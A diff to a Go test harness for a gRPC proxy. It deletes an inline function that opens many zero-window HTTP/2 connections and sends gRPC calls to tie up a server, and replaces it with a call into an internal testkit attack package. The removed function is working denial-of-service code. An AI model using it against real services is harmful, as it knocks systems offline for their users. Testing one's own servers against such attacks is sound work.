@@ -10,7 +10,6 @@ package main
 
 import (
 	"bufio"
-	"bytes"
 	"context"
 	"flag"
 	"fmt"
@@ -22,12 +21,12 @@ import (
 	"strings"
 	"time"
 
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/credentials/insecure"
 	testgrpc "google.golang.org/grpc/interop/grpc_testing"
 	"google.golang.org/grpc/metadata"
+
+	"github.com/triagehq/triage/internal/testkit/h2attack"
 )
 
 type echo struct {
@@ -141,7 +140,7 @@ func row(bin, upstream, trustNet string, n, calls int) error {
 		}
 		return ok
 	}
-	stop, err := attack(addr, n, calls)
+	stop, err := h2attack.ZeroWindowGRPC(addr, "/grpc.testing.TestService/EmptyCall", n, calls)
 	if err != nil {
 		return err
 	}
@@ -155,46 +154,3 @@ func row(bin, upstream, trustNet string, n, calls int) error {
 type devNull struct{}
 
 func (devNull) Write(p []byte) (int, error) { return len(p), nil }
-
-// attack opens n zero-window HTTP/2 connections to addr with calls
-// unary calls each, reading and dropping every frame.
-func attack(addr string, n, calls int) (func(), error) {
-	var cs []net.Conn
-	for range n {
-		c, err := net.Dial("tcp", addr)
-		if err != nil {
-			return nil, err
-		}
-		cs = append(cs, c)
-		c.Write([]byte(http2.ClientPreface))
-		fr := http2.NewFramer(c, c)
-		fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
-		for i := range calls {
-			var hb bytes.Buffer
-			enc := hpack.NewEncoder(&hb)
-			for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", addr},
-				{":path", "/grpc.testing.TestService/EmptyCall"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
-				enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
-			}
-			id := uint32(2*i + 1)
-			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
-			fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
-		}
-		go func() {
-			for {
-				f, err := fr.ReadFrame()
-				if err != nil {
-					return
-				}
-				if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
-					fr.WriteSettingsAck()
-				}
-			}
-		}()
-	}
-	return func() {
-		for _, c := range cs {
-			c.Close()
-		}
-	}, nil
-}
